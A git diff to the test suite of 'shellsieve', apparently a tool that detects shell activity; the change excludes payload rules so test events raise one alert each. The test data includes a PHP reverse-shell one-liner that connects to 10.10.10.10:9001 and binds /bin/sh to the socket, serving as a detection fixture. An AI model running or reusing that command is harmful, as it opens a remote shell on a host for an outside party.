@@ -11,7 +11,7 @@ from typing import Any
 import msgspec
 import pytest
 
-from conftest import PHP_FSOCKOPEN, rule_ids
+from conftest import PHP_FSOCKOPEN, rule_ids, PATTERNS, PAYLOAD_RULES
 from shellsieve.cli import main, parser
 from shellsieve.compile.ruleset import Ruleset
 from shellsieve.noise import process_event
@@ -23,6 +23,21 @@ from shellsieve.serve.pipeline import Listener, Pipeline
 from shellsieve.settings import Settings, parse_duration, parse_suppress_by
 
 CLI = str(Path(sys.executable).parent / "shellsieve")
+
+# `run` over the same rules as the fixture below
+_SEEDS_ONLY = [f"--exclude-rule={r}" for r in sorted(PAYLOAD_RULES)]
+
+
+@pytest.fixture(scope="module")
+def shipped() -> Ruleset:
+    """The shipped rules without issue 24's payload rules, which also alert on the PHP reverse shell
+    these tests use: one rule per event keeps the per-rule counts readable."""
+    from shellsieve.build import build
+    from shellsieve.model.selection import Selection
+
+    return build([PATTERNS], None, Selection("low", (), tuple(sorted(PAYLOAD_RULES))))[1]
+
+
 PHP = ["php", "-r", '$s=fsockopen("10.10.10.10",9001);exec("/bin/sh -i <&3 >&3 2>&3");']
 WINDOW = Settings(stats_interval_s=0, suppress_window_s=300)
 
@@ -256,7 +271,7 @@ class TestCli:
         """Through `shellsieve run`: one alert, the rest forwarded; stopped's counters add up and count them."""
         events = [_php(m) for m in (0, 1, 2, 6)]
         data = b"".join(msgspec.json.encode(e) + b"\n" for e in events)
-        res = subprocess.run([CLI, "run", "--stats-interval", "0", "--suppress-window", "5m"], input=data,
+        res = subprocess.run([CLI, "run", "--stats-interval", "0", "--suppress-window", "5m", *_SEEDS_ONLY], input=data,
                              capture_output=True, timeout=60)
         assert res.returncode == 0, res.stderr.decode()
         docs = [msgspec.json.decode(x) for x in res.stdout.splitlines()]
